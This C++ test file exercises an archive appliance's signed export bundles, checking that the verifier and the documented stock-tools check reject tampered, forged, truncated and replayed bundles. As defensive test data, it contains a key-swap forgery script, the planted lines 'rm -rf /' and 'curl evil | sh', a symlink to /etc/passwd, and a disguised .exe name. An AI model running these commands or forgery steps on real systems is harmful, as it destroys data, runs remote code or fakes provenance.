// Export bundles end to end on real components: TPM-resident signer on a fresh
// swtpm, SQLCipher audit log, libarchive tar, stock GNU tar / coreutils /
// openssl for the independent check, and every tampering case of docs/bundle-format.md.
#include <catch2/catch.hpp>

#include <filesystem>
#include <fstream>
#include <regex>

#include <nlohmann/json.hpp>

#include "appliance/export/bag_layout.h"
#include "appliance/export/cms_envelope_sink.h"
#include "common/subprocess.h"
#include "tests/export/export_fixture.h"

using namespace qoima;
using namespace qoima::testing;
namespace fs = std::filesystem;

namespace {

std::string StockBlock() {
  std::string doc = ReadFile(std::string(QOIMA_SOURCE_DIR) + "/docs/bundle-format.md");
  auto b = doc.find("<!-- stock-verify:begin -->");
  auto e = doc.find("<!-- stock-verify:end -->");
  REQUIRE(b != std::string::npos);
  REQUIRE(e != std::string::npos);
  std::string block = doc.substr(b, e - b);
  auto s = block.find("```sh\n");
  auto t = block.rfind("```");
  REQUIRE(s != std::string::npos);
  return block.substr(s + 6, t - s - 6);
}

std::string PythonBlock() {
  std::string doc = ReadFile(std::string(QOIMA_SOURCE_DIR) + "/docs/bundle-format.md");
  auto b = doc.find("```python\n");
  REQUIRE(b != std::string::npos);
  auto e = doc.find("```", b + 10);
  return doc.substr(b + 10, e - b - 10);
}

// Runs the documented stock-tools check on `bundle` in a fresh directory.
int StockCheck(ExportFixture& f, const std::string& bundle, std::string* out) {
  std::string work = f.dir.Sub("stock-" + std::to_string(std::rand()));
  fs::create_directories(work);
  fs::copy_file(bundle, work + "/bundle.tar");
  fs::copy_file(f.cert_path(), work + "/device.pem");
  return Bash(StockBlock(), work, out);
}

void FlipByteAfter(const std::string& path, const std::string& marker) {
  std::string bytes = ReadFile(path);
  auto at = bytes.find(marker);
  REQUIRE(at != std::string::npos);
  bytes[at + 2] ^= 0x01;
  WriteFile(path, bytes);
}

// The whole forgery, with stock tools in the bag directory: an attacker's own
// key and self-signed certificate replace the device's; the audit checkpoint,
// the device fingerprint in bag-info.txt, both tag manifests and the tag
// manifest's signature are all redone with it. The result is a consistent,
// validly signed bag that no appliance made.
const char* kForgeWithOwnKey = R"(
    openssl ecparam -name prime256v1 -genkey -noout -out ../evil.key 2>/dev/null
    openssl req -new -x509 -key ../evil.key -subj /CN=qoima-device -days 1 -out qoima-device-cert.pem
    fp=$(openssl x509 -in qoima-device-cert.pem -pubkey -noout | openssl pkey -pubin -outform DER | sha256sum | cut -d' ' -f1)
    sed -i "s/^Qoima-Device-Fingerprint: .*/Qoima-Device-Fingerprint: $fp/" bag-info.txt
    python3 - <<'PY'
import base64, json, subprocess
p = json.load(open("qoima-audit-proof.json"))
cp = base64.b64decode(p["checkpoint_base64"])
sig = subprocess.run(["openssl", "dgst", "-sha256", "-sign", "../evil.key"], input=cp, capture_output=True, check=True).stdout
p["checkpoint_signature_base64"] = base64.b64encode(sig).decode()
open("qoima-audit-proof.json", "w").write(json.dumps(p, indent=2) + "\n")
PY
    tags="bagit.txt manifest-sha256.txt manifest-sha512.txt bag-info.txt qoima-names.txt qoima-audit-proof.json qoima-device-cert.pem"
    for t in $tags; do echo "$(sha256sum $t | cut -d' ' -f1)  $t"; done > tagmanifest-sha256.txt
    for t in $tags; do echo "$(sha512sum $t | cut -d' ' -f1)  $t"; done > tagmanifest-sha512.txt
    openssl dgst -sha256 -sign ../evil.key -out tagmanifest-sha256.txt.sig tagmanifest-sha256.txt
)";

bool HasMessage(const exporting::VerifyReport& r, const std::string& kind, const std::string& needle) {
  for (const auto& p : r.problems)
    if (p.kind == kind && p.message.find(needle) != std::string::npos) return true;
  return false;
}

}  // namespace

TEST_CASE("export then verify round trip with the TPM signer") {
  ExportFixture f;
  auto rc = f.Export("bundle.tar");
  CHECK(rc.sequence == 1);
  CHECK(rc.bag.payload_files == f.files.size());
  auto stock_sha = RunChecked({"sha256sum", rc.output_path});
  REQUIRE(stock_sha.ok());
  CHECK(stock_sha->out.substr(0, 64) == rc.bundle_sha256);
  CHECK(rc.bag.device_fingerprint == f.keyring->signer().Fingerprint());
  auto r = f.Verify(rc.output_path);
  INFO(Describe(r));
  REQUIRE(r.ok());
  CHECK(r.signature_valid);
  CHECK(r.trusted_cert_used);
  CHECK(r.bag_dir == "qoima-export-000001");
  CHECK(r.payload_files == f.files.size());
  CHECK(r.bag_info["Qoima-Export-Id"] == rc.export_id);
  CHECK(r.bag_info["Qoima-Requested-By"] == "aigerim.officer (security_officer)");
  CHECK(r.bag_info["Qoima-Approved-By"] == "nurlan.officer (security_officer)");
  CHECK(r.bag_info["Qoima-Export-Reason"] == "issue on request of the owner, letter 12/345");
  CHECK(r.bag_info["Qoima-Object"] == "Электрондық үкімет порталы");
  CHECK(r.bag_info["Qoima-Device-Fingerprint"] == f.keyring->signer().Fingerprint());
  CHECK_FALSE(fs::exists(rc.output_path + ".partial"));

  // The export event is in the audit log, with both officers, and the log verifies.
  auto n = f.log->Size();
  REQUIRE(n.ok());
  auto ev = f.log->Entry(*n - 1);
  REQUIRE(ev.ok());
  CHECK(ev->action == "export.bundle");
  CHECK(ev->actor == "aigerim.officer");
  CHECK(ev->reason.find("approved-by=nurlan.officer") != std::string::npos);
  CHECK(ev->reason.find("export-id=" + rc.export_id) != std::string::npos);
  storage::AuditVerifyOptions vo;
  vo.trusted_keys_pem.push_back(f.cert_pem());
  auto lv = f.log->Verify(vo);
  REQUIRE(lv.ok());
  CHECK(lv->ok());

  // Payload bytes are exactly the deposit's.
  std::string bag = Unpack(rc.output_path, f.dir.Sub("x"));
  for (const auto& file : f.files) CHECK(ReadFile(bag + "/data/" + file.path) == file.content);

  // Sequences increase; a second export is a new bag.
  auto rc2 = f.Export("bundle2.tar");
  CHECK(rc2.sequence == 2);
  CHECK(rc2.export_id != rc.export_id);
}

TEST_CASE("stock tar, sha256sum, sha512sum and openssl verify the bundle exactly as documented") {
  ExportFixture f;
  auto rc = f.Export("bundle.tar");
  std::string out;
  int code = StockCheck(f, rc.output_path, &out);
  INFO(out);
  CHECK(code == 0);
  CHECK(out.find("Verified OK") != std::string::npos);
  CHECK(out.find("FAILED") == std::string::npos);
  // GNU tar lists the Kazakh names as UTF-8.
  auto list = RunChecked({"tar", "-tf", rc.output_path});
  REQUIRE(list.ok());
  CHECK(list->out.find("qoima-export-000001/data/бастапқы код/әріптер ғқңөұүһі.txt") != std::string::npos);
  // The documented Python check of the inclusion proof, on a bundle whose
  // event is not the log's first leaf.
  f.Export("b2.tar");
  auto rc3 = f.Export("b3.tar");
  CHECK(rc3.bag.audit.leaf_index == 2);
  std::string bag3 = Unpack(rc3.output_path, f.dir.Sub("x3"));
  std::string py_out;
  CHECK(Bash("python3 - <<'PY'\n" + PythonBlock() + "PY\n", bag3, &py_out) == 0);
  CHECK(py_out.find("inclusion proof OK") != std::string::npos);
  // And the same documented check fails on a flipped payload byte.
  FlipByteAfter(rc.output_path, "техникалық құжаттама\n");
  std::string bad_out;
  CHECK(StockCheck(f, rc.output_path, &bad_out) != 0);
  CHECK(bad_out.find("FAILED") != std::string::npos);
}

TEST_CASE("file names are NFC in the bag with a map back to the original bytes") {
  ExportFixture f;
  const std::string nfd = "Қаза\xd0\xb8\xcc\x86.txt";  // "Қазай" as и + combining breve: NFD
  WriteFile(f.payload_dir + "/" + nfd, "nfd\n");
  WriteFile(f.payload_dir + "/bad\xff name.txt", "latin1\n");
  auto rc = f.Export("bundle.tar");
  auto r = f.Verify(rc.output_path);
  INFO(Describe(r));
  REQUIRE(r.ok());
  std::string bag = Unpack(rc.output_path, f.dir.Sub("x"));
  CHECK(fs::exists(bag + "/data/Қазай.txt"));  // precomposed й (U+0439)
  CHECK(ReadFile(bag + "/data/bad_ name.txt") == "latin1\n");
  std::string names = ReadFile(bag + "/qoima-names.txt");
  CHECK(names.find("data/Қазай.txt\t" + nfd + "\n") != std::string::npos);
  CHECK(names.find("data/bad_ name.txt\tbad%FF name.txt\n") != std::string::npos);
}

TEST_CASE("bag names never carry characters that hide or reorder text") {
  ExportFixture f;
  const std::string rlo =
      "invoice\xE2\x80\xAE"
      "fdp.exe";
  WriteFile(f.payload_dir + "/" + rlo, "mz\n");
  auto rc = f.Export("bundle.tar");
  auto r = f.Verify(rc.output_path);
  INFO(Describe(r));
  REQUIRE(r.ok());
  auto list = RunChecked({"tar", "-tf", rc.output_path});
  REQUIRE(list.ok());
  CHECK(list->out.find("qoima-export-000001/data/invoice_fdp.exe") != std::string::npos);
  CHECK(list->out.find("\xE2\x80\xAE") == std::string::npos);
  std::string bag = Unpack(rc.output_path, f.dir.Sub("x"));
  CHECK(ReadFile(bag + "/data/invoice_fdp.exe") == "mz\n");
  CHECK(ReadFile(bag + "/qoima-names.txt").find("data/invoice_fdp.exe\tinvoice%E2%80%AEfdp.exe\n") !=
        std::string::npos);
}

TEST_CASE("tamper: a flipped payload byte is reported with the file and algorithm") {
  ExportFixture f;
  auto rc = f.Export("bundle.tar");
  FlipByteAfter(rc.output_path, "техникалық құжаттама\n");
  auto r = f.Verify(rc.output_path);
  INFO(Describe(r));
  CHECK(HasMessage(r, "payload-hash", "Техникалық құжаттама.txt: SHA-256 mismatch"));
  CHECK(HasMessage(r, "payload-hash", "Техникалық құжаттама.txt: SHA-512 mismatch"));
  CHECK(r.signature_valid);  // the signature itself is intact: only the payload changed
}

TEST_CASE("tamper: a removed payload file is reported as missing") {
  ExportFixture f;
  auto rc = f.Export("bundle.tar");
  std::string bag = Unpack(rc.output_path, f.dir.Sub("x"));
  fs::remove(bag + "/data/README.txt");
  Repack(bag, rc.output_path);
  auto r = f.Verify(rc.output_path);
  INFO(Describe(r));
  CHECK(HasMessage(r, "payload-missing", "data/README.txt is listed in manifest-sha256.txt"));
  CHECK(HasMessage(r, "oxum", "Payload-Oxum"));
  CHECK(HasMessage(r, "names", "data/README.txt is not a payload file"));
}

TEST_CASE("tamper: an added payload file is reported as unlisted") {
  ExportFixture f;
  auto rc = f.Export("bundle.tar");
  std::string bag = Unpack(rc.output_path, f.dir.Sub("x"));
  WriteFile(bag + "/data/extra.sh", "rm -rf /\n");
  Repack(bag, rc.output_path);
  auto r = f.Verify(rc.output_path);
  INFO(Describe(r));
  CHECK(HasMessage(r, "payload-unlisted", "data/extra.sh is in the bag but not listed in manifest-sha256.txt"));
  CHECK(HasMessage(r, "oxum", "Payload-Oxum"));
}

TEST_CASE("tamper: an edited manifest breaks the tag manifest") {
  ExportFixture f;
  auto rc = f.Export("bundle.tar");
  std::string bag = Unpack(rc.output_path, f.dir.Sub("x"));
  std::string m = ReadFile(bag + "/manifest-sha256.txt");
  m[0] = m[0] == '0' ? '1' : '0';
  WriteFile(bag + "/manifest-sha256.txt", m);
  Repack(bag, rc.output_path);
  auto r = f.Verify(rc.output_path);
  INFO(Describe(r));
  CHECK(HasMessage(r, "tagmanifest", "manifest-sha256.txt: SHA-256 does not match tagmanifest-sha256.txt"));
  CHECK(HasMessage(r, "payload-hash", "SHA-256 mismatch (manifest-sha256.txt line 1"));
  CHECK(HasMessage(r, "proof", "payload manifest differs from the one that was logged"));
}

TEST_CASE("tamper: a bundle re-signed with a foreign key fails against the trusted certificate") {
  ExportFixture f;
  auto rc = f.Export("bundle.tar");
  std::string bag = Unpack(rc.output_path, f.dir.Sub("x"));
  // The attacker changes a file, fixes every manifest, puts in a certificate of
  // their own and re-signs: the bag is consistent, but not from this device.
  std::string out;
  int code = Bash(R"(
    echo "forged" > data/README.txt
    sha256sum data/README.txt > /dev/null
    find data -type f | LC_ALL=C sort | while read -r p; do echo "$(sha256sum "$p" | cut -d' ' -f1)  $p"; done > manifest-sha256.txt
    find data -type f | LC_ALL=C sort | while read -r p; do echo "$(sha512sum "$p" | cut -d' ' -f1)  $p"; done > manifest-sha512.txt
    openssl ecparam -name prime256v1 -genkey -noout -out ../evil.key 2>/dev/null
    openssl req -new -x509 -key ../evil.key -subj /CN=evil -days 1 -out qoima-device-cert.pem
    for t in bagit.txt manifest-sha256.txt manifest-sha512.txt bag-info.txt qoima-names.txt qoima-audit-proof.json qoima-device-cert.pem; do
      echo "$(sha256sum $t | cut -d' ' -f1)  $t"; done > tagmanifest-sha256.txt
    for t in bagit.txt manifest-sha256.txt manifest-sha512.txt bag-info.txt qoima-names.txt qoima-audit-proof.json qoima-device-cert.pem; do
      echo "$(sha512sum $t | cut -d' ' -f1)  $t"; done > tagmanifest-sha512.txt
    openssl dgst -sha256 -sign ../evil.key -out tagmanifest-sha256.txt.sig tagmanifest-sha256.txt
  )",
                  bag, &out);
  INFO(out);
  REQUIRE(code == 0);
  Repack(bag, rc.output_path);
  auto r = f.Verify(rc.output_path);
  INFO(Describe(r));
  CHECK(HasMessage(r, "certificate", "is not the trusted device certificate"));
  CHECK(HasMessage(r, "signature", "does not verify over tagmanifest-sha256.txt with the public key of the trusted"));
  CHECK(r.Has("proof"));  // the logged manifest digest and the checkpoint key do not match either
  CHECK_FALSE(r.Has("payload-hash"));

  // Even without --cert, the audit checkpoint (signed by the device) betrays it.
  exporting::VerifyOptions no_cert;
  auto r2 = exporting::VerifyBundle(rc.output_path, no_cert);
  REQUIRE(r2.ok());
  INFO(Describe(*r2));
  CHECK(r2->signature_valid);
  CHECK(HasMessage(*r2, "proof", "checkpoint signature does not verify"));
  CHECK(HasMessage(*r2, "proof", "payload manifest differs"));
}

TEST_CASE("forged: a bundle re-signed throughout with an attacker's key is never OK") {
  ExportFixture f;
  auto rc = f.Export("bundle.tar");
  const std::string qoima = std::string(QOIMA_BINARY_DIR) + "/cli/qoima";
  // The genuine bundle: OK only against the device's own certificate.
  auto genuine = RunSubprocess({qoima, "verify-bundle", rc.output_path, "--cert", f.cert_path()});
  REQUIRE(genuine.ok());
  CHECK(genuine->exit_code == 0);
  CHECK(genuine->out.find("verify-bundle: OK qoima-export-000001") != std::string::npos);
  auto unanchored = RunSubprocess({qoima, "verify-bundle", rc.output_path});
  REQUIRE(unanchored.ok());
  CHECK(unanchored->exit_code == 8);
  CHECK(unanchored->out.find("verify-bundle: SIGNATURE VALID, SIGNER NOT TRUSTED") != std::string::npos);

  std::string bag = Unpack(rc.output_path, f.dir.Sub("x"));
  std::string out;
  int code = Bash(kForgeWithOwnKey, bag, &out);
  INFO(out);
  REQUIRE(code == 0);
  const std::string forged = f.dir.Sub("forged.tar");
  Repack(bag, forged);
  // The forgery is consistent: checked against the certificate it carries,
  // nothing is wrong with it (this is the attack).
  auto self = exporting::VerifyBundle(forged, exporting::VerifyOptions{});
  REQUIRE(self.ok());
  INFO(Describe(*self));
  CHECK(self->ok());
  CHECK(self->signature_valid);
  CHECK_FALSE(self->trusted_cert_used);
  CHECK(self->device_fingerprint != f.keyring->signer().Fingerprint());

  // Without --cert the CLI never says OK: exit 8, "signer not trusted".
  auto plain = RunSubprocess({qoima, "verify-bundle", forged});
  REQUIRE(plain.ok());
  INFO(plain->out << plain->err);
  CHECK(plain->exit_code == 8);
  CHECK(plain->out.find("verify-bundle: SIGNATURE VALID, SIGNER NOT TRUSTED qoima-export-000001") != std::string::npos);
  CHECK(plain->out.find("verify-bundle: OK") == std::string::npos);
  auto js = RunSubprocess({qoima, "--json", "verify-bundle", forged});
  REQUIRE(js.ok());
  CHECK(js->exit_code == 8);
  auto j = nlohmann::json::parse(js->out);
  CHECK(j["ok"] == false);
  CHECK(j["verdict"] == "signature_valid_signer_not_trusted");
  CHECK(j["signature_valid"] == true);
  CHECK(j["trusted_certificate"] == false);

  // With the device's certificate it fails, naming the certificate and the signature.
  auto anchored = RunSubprocess({qoima, "verify-bundle", forged, "--cert", f.cert_path()});
  REQUIRE(anchored.ok());
  INFO(anchored->out);
  CHECK(anchored->exit_code == 1);
  CHECK(anchored->out.find("PROBLEM certificate:") != std::string::npos);
  CHECK(anchored->out.find("PROBLEM signature:") != std::string::npos);
  CHECK(anchored->out.find("verify-bundle: FAILED") != std::string::npos);
  // And the documented stock-tools check, with the device's certificate, refuses it too.
  std::string stock_out;
  CHECK(StockCheck(f, forged, &stock_out) != 0);
  CHECK(stock_out.find("Verification failure") != std::string::npos);
}

TEST_CASE("the documented stock-tools check refuses an added symbolic link") {
  ExportFixture f;
  auto rc = f.Export("bundle.tar");
  std::string bag = Unpack(rc.output_path, f.dir.Sub("x"));
  // Not in any manifest, and `sha256sum -c` would follow it anyway.
  fs::create_symlink("/etc/passwd", bag + "/data/passwd");
  Repack(bag, rc.output_path);
  std::string out;
  int code = StockCheck(f, rc.output_path, &out);
  INFO(out);
  CHECK(code != 0);
  CHECK(out.find("not a regular file: ./data/passwd") != std::string::npos);
  CHECK(out.find("Verified OK") == std::string::npos);  // stopped before the signature step
  auto r = f.Verify(rc.output_path);
  CHECK(r.Has("structure"));
}

TEST_CASE("the documented stock-tools check refuses a file the manifests do not list") {
  ExportFixture f;
  auto rc = f.Export("bundle.tar");
  std::string bag = Unpack(rc.output_path, f.dir.Sub("x"));
  // Outside data/: neither payload manifest nor tag manifest lists it, so
  // every sha256sum step passes; only the comparison of the file lists sees it.
  WriteFile(bag + "/run-me.sh", "curl evil | sh\n");
  Repack(bag, rc.output_path);
  std::string out;
  int code = StockCheck(f, rc.output_path, &out);
  INFO(out);
  CHECK(code != 0);
  CHECK(out.find("Verified OK") != std::string::npos);  // the signature itself is intact
  CHECK(out.find("> run-me.sh") != std::string::npos);
  auto r = f.Verify(rc.output_path);
  CHECK_FALSE(r.ok());
  // In data/ as well (the step that compared data/ alone caught this one already).
  std::string bag2 = Unpack(f.Export("b2.tar").output_path, f.dir.Sub("y"));
  WriteFile(bag2 + "/data/extra.sh", "rm -rf /\n");
  Repack(bag2, f.dir.Sub("b2.tar"));
  std::string out2;
  CHECK(StockCheck(f, f.dir.Sub("b2.tar"), &out2) != 0);
  CHECK(out2.find("> data/extra.sh") != std::string::npos);
}

TEST_CASE("tamper: a truncated tar is reported as truncated, with what is then missing") {
  ExportFixture f;
  auto rc = f.Export("bundle.tar");
  auto size = fs::file_size(rc.output_path);
  fs::resize_file(rc.output_path, size / 2);
  auto r = f.Verify(rc.output_path);
  INFO(Describe(r));
  CHECK(HasMessage(r, "tar", "is cut short (the bundle is truncated or damaged)"));
  CHECK(HasMessage(r, "signature", "tagmanifest-sha256.txt.sig is missing"));
  CHECK(r.Has("manifest"));

  // Cut exactly between two entries: no entry is short, but the end marker is gone.
  auto rc2 = f.Export("bundle2.tar");
  std::string bytes = ReadFile(rc2.output_path);
  size_t sig = bytes.find("qoima-export-000002/tagmanifest-sha256.txt.sig");
  REQUIRE(sig != std::string::npos);
  WriteFile(rc2.output_path, bytes.substr(0, sig / 512 * 512));
  auto r2 = f.Verify(rc2.output_path);
  INFO(Describe(r2));
  CHECK(HasMessage(r2, "tar", "ends without the end-of-archive marker"));
  CHECK(HasMessage(r2, "signature", "tagmanifest-sha256.txt.sig is missing"));
}

TEST_CASE("tamper: a bag-info.txt swapped in from another export is caught") {
  ExportFixture f;
  auto a = f.Export("a.tar");
  auto b = f.Export("b.tar");
  std::string bag_a = Unpack(a.output_path, f.dir.Sub("xa"));
  std::string bag_b = Unpack(b.output_path, f.dir.Sub("xb"));
  fs::copy_file(bag_b + "/bag-info.txt", bag_a + "/bag-info.txt", fs::copy_options::overwrite_existing);
  Repack(bag_a, a.output_path);
  auto r = f.Verify(a.output_path);
  INFO(Describe(r));
  CHECK(HasMessage(r, "tagmanifest", "bag-info.txt: SHA-256 does not match tagmanifest-sha256.txt"));
  CHECK(HasMessage(r, "proof", "is not the export of Qoima-Export-Id " + b.export_id));
  CHECK(HasMessage(r, "bag-info", "does not match the bag directory qoima-export-000001"));
}

TEST_CASE("replay: an old bundle presented as a new export is refused by the import ledger") {
  ExportFixture f;
  auto a = f.Export("a.tar");
  auto b = f.Export("b.tar");
  const std::string ledger = f.dir.Sub("imports.ledger");
  auto ra = f.Verify(a.output_path, ledger);
  INFO(Describe(ra));
  REQUIRE(ra.ok());
  CHECK(ra.recorded);
  auto rb = f.Verify(b.output_path, ledger);
  REQUIRE(rb.ok());
  // The same bundle again.
  auto again = f.Verify(a.output_path, ledger);
  CHECK(HasMessage(again, "replay", "export " + a.export_id + " (sequence 1) was already accepted"));
  CHECK_FALSE(again.recorded);
  // An older, never imported bundle after a newer one.
  auto c = f.Export("c.tar");
  auto d = f.Export("d.tar");
  REQUIRE(f.Verify(d.output_path, ledger).ok());
  auto old = f.Verify(c.output_path, ledger);
  CHECK(HasMessage(old, "replay", "sequence 3 is not newer than sequence 4"));
}

TEST_CASE("every problem is reported, not just the first") {
  ExportFixture f;
  auto rc = f.Export("bundle.tar");
  std::string bag = Unpack(rc.output_path, f.dir.Sub("x"));
  fs::remove(bag + "/data/README.txt");
  WriteFile(bag + "/data/extra.txt", "extra\n");
  WriteFile(bag + "/data/build/app.bin", "changed");
  Repack(bag, rc.output_path);
  auto r = f.Verify(rc.output_path);
  INFO(Describe(r));
  CHECK(r.Has("payload-missing"));
  CHECK(r.Has("payload-unlisted"));
  CHECK(HasMessage(r, "payload-hash", "data/build/app.bin: SHA-256 mismatch"));
  CHECK(r.Has("oxum"));
  CHECK(r.problems.size() >= 6);
}

TEST_CASE("encrypted export opens with openssl cms -decrypt and then verifies") {
  ExportFixture f;
  std::string out;
  REQUIRE(Bash("openssl req -x509 -newkey rsa:2048 -nodes -keyout r.key -out r.crt -subj /CN=recipient -days 1 "
               "2>/dev/null",
               f.dir.path(), &out) == 0);
  exporting::DepositMetadata md{"17", "obj", "1", "act-1", "00"};
  auto src = exporting::DirectoryPayloadSource::Create(f.payload_dir, md);
  REQUIRE(src.ok());
  exporting::ExportRequest req;
  req.approval = f.Approval();
  req.output_path = f.dir.Sub("bundle.tar.p7m");
  req.recipient_cert_pem = ReadFile(f.dir.Sub("r.crt"));
  auto rc = f.exporter->Export(**src, req);
  INFO(rc.status().ToString());
  REQUIRE(rc.ok());
  CHECK(rc->encrypted);
  // No plaintext: the payload text does not appear in the file.
  CHECK(ReadFile(req.output_path).find("техникалық құжаттама") == std::string::npos);
  auto enc = f.Verify(req.output_path);
  CHECK(HasMessage(enc, "encrypted", "openssl cms -decrypt"));
  REQUIRE(Bash("openssl cms -decrypt -binary -inform DER -in bundle.tar.p7m -recip r.crt -inkey r.key -out plain.tar",
               f.dir.path(), &out) == 0);
  auto r = f.Verify(f.dir.Sub("plain.tar"));
  INFO(Describe(r));
  CHECK(r.ok());
  CHECK(r.bag_info.count("Qoima-Encrypted-For") == 1);
  std::string stock;
  CHECK(StockCheck(f, f.dir.Sub("plain.tar"), &stock) == 0);
}

TEST_CASE("two-person rule: self-approval and wrong roles are refused before anything is written") {
  ExportFixture f;
  exporting::DepositMetadata md{"17", "obj", "1", "act-1", "00"};
  auto src = exporting::DirectoryPayloadSource::Create(f.payload_dir, md);
  REQUIRE(src.ok());
  exporting::ExportRequest req;
  req.output_path = f.dir.Sub("bundle.tar");
  req.approval = f.Approval();
  req.approval.approved_by = req.approval.requested_by;
  auto r = f.exporter->Export(**src, req);
  CHECK(r.status().code() == Code::kPermissionDenied);
  CHECK(r.status().message().find("same person") != std::string::npos);
  req.approval = f.Approval();
  req.approval.approver_role = "clerk";
  r = f.exporter->Export(**src, req);
  CHECK(r.status().code() == Code::kPermissionDenied);
  CHECK(r.status().message().find("has role 'clerk'") != std::string::npos);
  CHECK_FALSE(fs::exists(req.output_path));
  CHECK_FALSE(fs::exists(f.dir.Sub("export.seq")));  // no sequence consumed
  auto n = f.log->Size();
  REQUIRE(n.ok());
  CHECK(*n == 0);
}

namespace {
// A payload whose second file fails mid-stream (a store read error).
class FailingSource : public exporting::PayloadSource {
 public:
  explicit FailingSource(exporting::PayloadSource* inner) : inner_(inner) {}
  const exporting::DepositMetadata& metadata() const override { return inner_->metadata(); }
  const std::vector<exporting::PayloadEntry>& entries() const override { return inner_->entries(); }
  Status Stream(size_t i, const exporting::ChunkSink& sink) override {
    if (i != 1) return inner_->Stream(i, sink);
    // Half the file arrives, then authentication of the next chunk fails.
    std::vector<uint8_t> half(entries()[i].size / 2, 'x');
    QOIMA_RETURN_IF_ERROR(sink(half));
    return Status::Corrupt("object 2: AEAD tag mismatch in chunk 1");
  }

 private:
  exporting::PayloadSource* inner_;
};
}  // namespace

TEST_CASE("a failure mid-export leaves no bundle behind") {
  ExportFixture f;
  exporting::DepositMetadata md{"17", "obj", "1", "act-1", "00"};
  auto src = exporting::DirectoryPayloadSource::Create(f.payload_dir, md);
  REQUIRE(src.ok());
  FailingSource failing(src->get());
  exporting::ExportRequest req;
  req.approval = f.Approval();
  req.output_path = f.dir.Sub("bundle.tar");
  auto r = f.exporter->Export(failing, req);
  REQUIRE_FALSE(r.ok());
  CHECK(r.status().message().find("AEAD tag mismatch in chunk 1") != std::string::npos);
  CHECK_FALSE(fs::exists(req.output_path));
  CHECK_FALSE(fs::exists(req.output_path + ".partial"));
  // An existing file is never overwritten.
  WriteFile(req.output_path, "keep");
  auto again = f.exporter->Export(**src, req);
  CHECK(again.status().code() == Code::kAlreadyExists);
  CHECK(ReadFile(req.output_path) == "keep");
}

TEST_CASE("qoima verify-bundle CLI: OK line, every PROBLEM line, exit codes and --json") {
  ExportFixture f;
  auto rc = f.Export("bundle.tar");
  const std::string qoima = std::string(QOIMA_BINARY_DIR) + "/cli/qoima";
  auto ok = RunSubprocess({qoima, "verify-bundle", rc.output_path, "--cert", f.cert_path()});
  REQUIRE(ok.ok());
  INFO(ok->out << ok->err);
  CHECK(ok->exit_code == 0);
  CHECK(ok->out.find("verify-bundle: OK qoima-export-000001") != std::string::npos);
  CHECK(ok->out.find("(trusted certificate)") != std::string::npos);

  FlipByteAfter(rc.output_path, "техникалық құжаттама\n");
  auto bad = RunSubprocess({qoima, "verify-bundle", rc.output_path, "--cert", f.cert_path()});
  REQUIRE(bad.ok());
  INFO(bad->out);
  CHECK(bad->exit_code == 1);
  CHECK(bad->out.find("PROBLEM payload-hash: data/құжаттар/Техникалық құжаттама.txt: SHA-256 mismatch") !=
        std::string::npos);
  CHECK(bad->out.find("PROBLEM payload-hash: data/құжаттар/Техникалық құжаттама.txt: SHA-512 mismatch") !=
        std::string::npos);
  CHECK(bad->out.find("verify-bundle: FAILED: 2 problem(s)") != std::string::npos);

  auto js = RunSubprocess({qoima, "--json", "verify-bundle", rc.output_path});
  REQUIRE(js.ok());
  CHECK(js->exit_code == 1);
  CHECK(js->out.find("\"ok\":false") != std::string::npos);
  CHECK(js->out.find("\"kind\":\"payload-hash\"") != std::string::npos);

  auto usage = RunSubprocess({qoima, "verify-bundle"});
  REQUIRE(usage.ok());
  CHECK(usage->exit_code == 2);
}

TEST_CASE("byte flips anywhere in a bundle never crash the verifier, and flips in content never pass") {
  ExportFixture f(64 * 1024);
  auto rc = f.Export("bundle.tar");
  const std::string original = ReadFile(rc.output_path);
  // Offsets of bytes that are file content (not tar padding or header fields
  // a flip may leave meaningless, like mtime): inside the manifest and a payload file.
  const size_t manifest_at = original.find("  data/README.txt\n");
  const size_t payload_at = original.find("техникалық құжаттама\n");
  REQUIRE(manifest_at != std::string::npos);
  REQUIRE(payload_at != std::string::npos);
  uint32_t x = 12345;
  for (int i = 0; i < 48; ++i) {
    x ^= x << 13;
    x ^= x >> 17;
    x ^= x << 5;
    size_t at = i % 3 == 0 ? manifest_at - 1 - (x % 60) : i % 3 == 1 ? payload_at + (x % 20) : x % original.size();
    std::string bytes = original;
    bytes[at] = static_cast<char>(bytes[at] ^ (1 << (x % 8)));
    const std::string path = f.dir.Sub("flip.tar");
    WriteFile(path, bytes);
    auto r = f.Verify(path);
    INFO("flip at " << at << "\n" << Describe(r));
    if (i % 3 != 2) CHECK_FALSE(r.ok());
  }
}
